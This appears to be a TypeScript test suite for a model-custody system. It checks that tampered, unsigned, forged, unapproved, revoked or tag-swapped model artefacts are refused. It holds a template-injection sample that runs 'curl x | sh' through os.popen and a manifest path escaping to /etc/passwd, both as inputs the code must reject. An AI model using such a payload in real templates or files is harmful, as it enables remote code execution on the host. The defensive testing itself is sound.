// Attacks on model custody (P7): a tampered artefact at import and at load, a forged or unknown
// signature, an unsigned bundle, a path escape in a manifest, an unapproved or revoked model asked to
// serve, an Ollama backend that swaps a tag to other weights, and a chat template built for template
// injection. Every one must be refused.
import assert from 'node:assert/strict';
import { chmodSync, mkdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import type { UpstreamConfig } from '../../src/config/schema.ts';
import { importModel } from '../../src/custody/import.ts';
import { parsePublicKey } from '../../src/custody/manifest.ts';
import { storePath } from '../../src/custody/model-store.ts';
import { type OpenedCustody, openCustody } from '../../src/custody/open.ts';
import { createCustodyRuntime } from '../../src/custody/runtime.ts';
import { checkOllamaBackend, createServingGate, verifyBeforeLoad } from '../../src/custody/serving.ts';
import { ggufWithTemplate, testEnclave, testKey, writeBundle } from '../../src/custody/test-fixtures.ts';
import type { ModelVersion } from '../../src/custody/types.ts';
import { AirlockError } from '../../src/errors.ts';
import { buildDemoModel } from '../../src/inference/worker/demo-model.ts';
import { startMockOllamaUpstream } from '../helpers/mock-ollama-upstream.ts';

const release = testKey();
const stranger = testKey();
const enclave = testEnclave({ trusted: [{ name: 'release', key: release }] });
let custody: OpenedCustody;
const by = { actor: 'test' };

const refused = (code: string, detail?: RegExp) => (e: unknown) => {
  assert.ok(e instanceof AirlockError, String(e));
  assert.equal(e.code, code);
  if (detail) assert.match(e.detail ?? '', detail);
  return true;
};

function doImport(path: string, extra: { allowFlaggedTemplate?: boolean; signature?: string } = {}) {
  return importModel(
    { path, actor: 'test', ...extra },
    {
      dataDir: enclave.dataDir,
      inventory: custody.inventory,
      trustedKeys: custody.trustedKeys,
      allowUnsigned: false,
    },
  );
}

let n = 0;
const media = () => join(enclave.dir, 'media', String(n++));

before(() => {
  custody = openCustody(enclave.dataDir, {
    trustedKeys: [{ name: 'release', publicKey: release.publicKey }],
    allowUnsigned: false,
    enforce: true,
    twoPerson: false,
    exempt: [],
    serve: [],
  });
});
after(() => {
  custody.close();
  rmSync(enclave.dir, { recursive: true, force: true });
});

describe('custody: import refuses', () => {
  it('a file altered after signing (same size, one byte flipped)', async () => {
    const dir = writeBundle(media(), { name: 'tamper', version: '1', key: release.privateKey });
    const file = join(dir, 'model.gguf');
    const bytes = readFileSync(file);
    bytes[bytes.length - 5] = bytes[bytes.length - 5]! ^ 0xff;
    writeFileSync(file, bytes);
    await assert.rejects(doImport(dir), refused('model_import_refused', /does not match the manifest/));
    assert.equal(custody.inventory.get('tamper@1'), undefined);
  });

  it('a file with a different size', async () => {
    const dir = writeBundle(media(), { name: 'tamper', version: '2', key: release.privateKey });
    writeFileSync(
      join(dir, 'model.gguf'),
      Buffer.concat([readFileSync(join(dir, 'model.gguf')), Buffer.from('x')]),
    );
    await assert.rejects(doImport(dir), refused('model_import_refused', /bytes, the manifest says/));
  });

  it('a manifest altered after signing', async () => {
    const dir = writeBundle(media(), { name: 'forged', version: '1', key: release.privateKey });
    const m = join(dir, 'airlock-model.json');
    writeFileSync(m, readFileSync(m, 'utf8').replace('"limited"', '"minimal"'));
    await assert.rejects(
      doImport(dir),
      refused('model_import_refused', /does not verify against any trusted key/),
    );
  });

  it('a signature from an unknown key', async () => {
    const dir = writeBundle(media(), { name: 'stranger', version: '1', key: stranger.privateKey });
    await assert.rejects(doImport(dir), refused('model_import_refused', /unknown signer/));
  });

  it('a detached signature given explicitly that is garbage', async () => {
    const dir = writeBundle(media(), { name: 'garbage', version: '1' });
    writeFileSync(join(dir, 'sig'), 'AAAA');
    await assert.rejects(doImport(dir, { signature: join(dir, 'sig') }), refused('model_import_refused'));
  });

  it('an unsigned bundle by default', async () => {
    const dir = writeBundle(media(), { name: 'unsigned', version: '1' });
    await assert.rejects(doImport(dir), refused('model_import_refused', /unsigned imports are refused/));
    await assert.rejects(doImport(join(dir, 'model.gguf')), refused('model_import_refused', /unsigned/));
  });

  it('a manifest path escaping the bundle', async () => {
    const dir = media();
    writeBundle(dir, {
      name: 'escape',
      version: '1',
      files: { 'model.gguf': buildDemoModel(9) },
      key: release.privateKey,
    });
    const m = join(dir, 'airlock-model.json');
    const doc = JSON.parse(readFileSync(m, 'utf8'));
    doc.files[0].path = '../../../etc/passwd';
    writeFileSync(m, JSON.stringify(doc));
    await assert.rejects(doImport(dir), refused('model_import_refused', /invalid manifest/));
  });

  it('a symlink inside a folder import', async () => {
    const e = testEnclave({ allowUnsigned: true });
    const c = openCustody(e.dataDir, {
      trustedKeys: [],
      allowUnsigned: true,
      enforce: true,
      twoPerson: false,
      exempt: [],
      serve: [],
    });
    try {
      const dir = join(e.dir, 'm');
      mkdirSync(dir);
      writeFileSync(join(dir, 'model.gguf'), buildDemoModel(4));
      symlinkSync('/etc/hostname', join(dir, 'link'));
      await assert.rejects(
        importModel(
          { path: dir, name: 'l', version: '1', actor: 't' },
          { dataDir: e.dataDir, inventory: c.inventory, trustedKeys: [], allowUnsigned: true },
        ),
        refused('model_import_refused', /not a regular file/),
      );
    } finally {
      c.close();
      rmSync(e.dir, { recursive: true, force: true });
    }
  });

  it('a chat template that looks like template injection (flagged, refused unless accepted)', async () => {
    const evil = "{{ cycler.__init__.__globals__.os.popen('curl x | sh').read() }}";
    const dir = writeBundle(media(), {
      name: 'evil',
      version: '1',
      files: { 'model.gguf': ggufWithTemplate(evil) },
      key: release.privateKey,
    });
    await assert.rejects(doImport(dir), refused('model_import_refused', /template injection/));
    const v = await doImport(dir, { allowFlaggedTemplate: true });
    assert.ok(v.templateFindings.length >= 2);
    assert.equal(v.gguf?.quantization, 'Q4_K_M');
  });
});

describe('custody: serving refuses', () => {
  let digest = '';
  let stored = '';
  before(async () => {
    const v = await doImport(
      writeBundle(media(), { name: 'serve', version: '1', seed: 77, key: release.privateKey }),
    );
    digest = v.files[0]!.sha256;
    stored = storePath(enclave.dataDir, digest);
  });

  it('an imported but unapproved model: not loaded, not routed', async () => {
    await assert.rejects(verifyBeforeLoad(custody.inventory, digest, stored), refused('model_not_approved'));
    const gate = createServingGate(
      custody.inventory,
      [{ upstream: 'w', model: 'serve', version: 'serve@1' }],
      { enforce: true },
    );
    gate.observe('w', 'serve', digest);
    assert.equal(gate.admits('w', 'serve'), false);
    assert.match(gate.reason('w', 'serve')!, /not approved/);
  });

  it('approved: loads after re-hashing; unbound targets refused when enforced', async () => {
    custody.inventory.transition('serve@1', 'approved', by);
    assert.equal((await verifyBeforeLoad(custody.inventory, digest, stored)).sha256, digest);
    const gate = createServingGate(
      custody.inventory,
      [{ upstream: 'w', model: 'serve', version: 'serve@1' }],
      { enforce: true },
    );
    assert.equal(gate.admits('w', 'serve'), false, 'not verified yet');
    gate.observe('w', 'serve', digest);
    assert.equal(gate.admits('w', 'serve'), true);
    assert.equal(gate.admits('w', 'other'), false);
  });

  it('a store file altered after approval is refused at load', async () => {
    const copy = join(enclave.dir, 'copy.gguf');
    const bytes = readFileSync(stored);
    bytes[100] = bytes[100]! ^ 1;
    writeFileSync(copy, bytes);
    await assert.rejects(
      verifyBeforeLoad(custody.inventory, digest, copy),
      refused('model_integrity_failed', /changed/),
    );
    chmodSync(stored, 0o644);
    writeFileSync(stored, bytes);
    await assert.rejects(
      verifyBeforeLoad(custody.inventory, digest, stored),
      refused('model_integrity_failed'),
    );
    bytes[100] = bytes[100]! ^ 1;
    writeFileSync(stored, bytes);
    chmodSync(stored, 0o444);
    await verifyBeforeLoad(custody.inventory, digest, stored);
  });

  it('revoked from another process (the CLI): refused on the next request', async () => {
    const gate = createServingGate(
      custody.inventory,
      [{ upstream: 'w', model: 'serve', version: 'serve@1' }],
      { enforce: true },
    );
    gate.observe('w', 'serve', digest);
    assert.equal(gate.admits('w', 'serve'), true);
    const cli = openCustody(enclave.dataDir, {
      trustedKeys: [],
      allowUnsigned: false,
      enforce: true,
      twoPerson: false,
      exempt: [],
      serve: [],
    });
    cli.inventory.transition('serve@1', 'revoked', { actor: 'cli:op', reason: 'backdoor report' });
    cli.close();
    assert.equal(gate.admits('w', 'serve'), false);
    await assert.rejects(verifyBeforeLoad(custody.inventory, digest, stored), refused('model_not_approved'));
  });
});

describe('custody: an Ollama backend that swaps a tag', () => {
  let server: Server;
  let base = '';
  const blob = 'c'.repeat(64);
  let tagDigest = 'd'.repeat(64);
  let modelBlob = blob;
  before(async () => {
    server = createServer((req, res) => {
      res.setHeader('content-type', 'application/json');
      if (req.url === '/api/tags')
        res.end(
          JSON.stringify({
            models: [
              { name: 'llama3:8b', model: 'llama3:8b', digest: tagDigest, size: 1 },
              { name: 'extra:latest', digest: 'e'.repeat(64) },
            ],
          }),
        );
      else if (req.url === '/api/show')
        res.end(
          JSON.stringify({
            modelfile: `# Modelfile\nFROM /root/.ollama/models/blobs/sha256-${modelBlob}\nTEMPLATE x\n`,
          }),
        );
      else {
        res.statusCode = 404;
        res.end('{}');
      }
    });
    await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
    base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  });
  after(() => new Promise<void>((r) => server.close(() => r())));

  it('matching blob digest → ok; swapped → changed, and the gate stops admitting it', async () => {
    const v = await doImport(
      writeBundle(media(), {
        name: 'llama3',
        version: '8b',
        files: { 'model.gguf': ggufWithTemplate('{{ messages }}') },
        key: release.privateKey,
      }),
    );
    custody.inventory.transition(v.id, 'approved', by);
    modelBlob = v.files[0]!.sha256;
    const first = await checkOllamaBackend(base, [{ model: 'llama3:8b', digest: modelBlob }]);
    assert.equal(first.ok, true);
    assert.deepEqual(first.unexpected, ['extra:latest']);
    const gate = createServingGate(
      custody.inventory,
      [{ upstream: 'ollama', model: 'llama3:8b', version: v.id }],
      { enforce: true },
    );
    assert.equal(await gate.verifyOllama('ollama', base), true);
    assert.equal(gate.admits('ollama', 'llama3:8b'), true);

    // The operator (or an attacker with access to the model server) re-tags other weights.
    modelBlob = blob;
    tagDigest = 'f'.repeat(64);
    const swapped = await checkOllamaBackend(base, [{ model: 'llama3:8b', digest: v.files[0]!.sha256 }]);
    assert.equal(swapped.ok, false);
    assert.equal(swapped.findings[0]!.status, 'changed');
    assert.equal(await gate.verifyOllama('ollama', base), false);
    assert.equal(gate.admits('ollama', 'llama3:8b'), false);
    assert.match(gate.reason('ollama', 'llama3:8b')!, /serves/);
    const missing = await checkOllamaBackend(base, [{ model: 'gone', digest: blob }]);
    assert.equal(missing.findings[0]!.status, 'missing');
  });

  it('a backend that cannot show digests is not admitted (the shared Ollama mock)', async () => {
    const up = await startMockOllamaUpstream({ models: ['mock-model'] });
    try {
      const r = await checkOllamaBackend(up.url, [{ model: 'mock-model', digest: blob }]);
      assert.equal(r.ok, false);
    } finally {
      await up.close();
    }
  });
});

describe('custody runtime (what start.ts wires)', () => {
  it('embedded worker: an unapproved file is refused before load; revocation stops routing next request', async () => {
    const e = testEnclave({ trusted: [{ name: 'release', key: release }] });
    const rt = createCustodyRuntime(
      {
        trustedKeys: [{ name: 'release', publicKey: release.publicKey }],
        allowUnsigned: false,
        enforce: true,
        twoPerson: false,
        exempt: [],
        serve: [],
      },
      {
        dataDir: e.dataDir,
        upstreams: [{ name: 'local', kind: 'embedded' } as UpstreamConfig],
      },
    );
    try {
      const v = await importModel(
        {
          path: writeBundle(join(e.dir, 'b'), {
            name: 'demo',
            version: '1',
            seed: 5,
            key: release.privateKey,
          }),
          actor: 't',
        },
        {
          dataDir: e.dataDir,
          inventory: rt.inventory,
          trustedKeys: [{ name: 'release', key: parsePublicKey(release.publicKey) }],
          allowUnsigned: false,
        },
      );
      const path = storePath(e.dataDir, v.files[0]!.sha256);
      await assert.rejects(rt.beforeWorkerLoad('local', path), refused('model_not_approved'));
      assert.match(rt.refusal('local', 'demo')!, /not verified/);
      rt.inventory.transition(v.id, 'approved', by);
      await rt.beforeWorkerLoad('local', path);
      assert.equal(rt.refusal('local', 'demo'), undefined);
      // A file outside the store with other bytes: unknown digest → refused.
      const other = join(e.dir, 'other.gguf');
      writeFileSync(other, buildDemoModel(6));
      await assert.rejects(
        rt.beforeWorkerLoad('local', other),
        refused('model_not_approved', /not an approved/),
      );
      await rt.beforeWorkerLoad('local', path);
      rt.inventory.transition(v.id, 'revoked', by);
      assert.match(rt.refusal('local', 'demo')!, /no longer approved/);
      assert.match(rt.refusal('remote', 'x')!, /not bound/);
    } finally {
      rt.close();
      rmSync(e.dir, { recursive: true, force: true });
    }
  });

  it('worker bound to an alias: loads what the alias names now; unapproved, revoked or altered refused', async () => {
    const e = testEnclave({ trusted: [{ name: 'release', key: release }] });
    const rt = createCustodyRuntime(
      {
        trustedKeys: [{ name: 'release', publicKey: release.publicKey }],
        allowUnsigned: false,
        enforce: true,
        twoPerson: false,
        exempt: [],
        serve: [],
      },
      {
        dataDir: e.dataDir,
        upstreams: [
          { name: 'local', kind: 'embedded', worker: { model: 'chat', contextSize: 512 } } as UpstreamConfig,
        ],
      },
    );
    const deps = {
      dataDir: e.dataDir,
      inventory: rt.inventory,
      trustedKeys: [{ name: 'release', key: parsePublicKey(release.publicKey) }],
      allowUnsigned: false,
    };
    try {
      const imported = [];
      for (const [version, seed] of [
        ['1', 7],
        ['2', 8],
      ] as const)
        imported.push(
          await importModel(
            {
              path: writeBundle(join(e.dir, `alias-${version}`), {
                name: 'chat',
                version,
                seed,
                key: release.privateKey,
              }),
              actor: 't',
            },
            deps,
          ),
        );
      const [a, b] = imported as [ModelVersion, ModelVersion];
      await assert.rejects(
        rt.beforeWorkerLoad('local', 'inventory:chat'),
        refused('model_not_approved', /not in the inventory/),
      );
      rt.inventory.transition(a.id, 'approved', by);
      rt.inventory.activate(a.id, { ...by, alias: 'chat' });
      assert.equal(
        await rt.beforeWorkerLoad('local', 'inventory:chat'),
        storePath(e.dataDir, a.files[0]!.sha256),
      );
      assert.deepEqual(rt.versionOf('local', 'chat'), { id: 'chat@1', digest: a.files[0]!.sha256 });
      rt.inventory.transition(b.id, 'approved', by);
      rt.inventory.activate(b.id, { ...by, alias: 'chat' });
      assert.equal(
        await rt.beforeWorkerLoad('local', 'inventory:chat'),
        storePath(e.dataDir, b.files[0]!.sha256),
        'the next start follows the alias',
      );
      rt.inventory.rollback('chat', a.id, by);
      assert.equal(
        await rt.beforeWorkerLoad('local', 'inventory:chat'),
        storePath(e.dataDir, a.files[0]!.sha256),
        'and its rollback',
      );
      rt.inventory.transition(a.id, 'revoked', by);
      assert.match(
        rt.refusal('local', 'chat')!,
        /no longer approved/,
        'the running worker stops being routed to',
      );
      await assert.rejects(rt.beforeWorkerLoad('local', 'inventory:chat'), refused('model_not_approved'));
      // A store file altered on disk is refused at the next start.
      rt.inventory.rollback('chat', b.id, by);
      const stored = storePath(e.dataDir, b.files[0]!.sha256);
      chmodSync(stored, 0o644);
      const bytes = readFileSync(stored);
      bytes[bytes.length - 1]! ^= 1;
      writeFileSync(stored, bytes);
      await assert.rejects(rt.beforeWorkerLoad('local', 'inventory:chat'), refused('model_integrity_failed'));
    } finally {
      rt.close();
      rmSync(e.dir, { recursive: true, force: true });
    }
  });
});
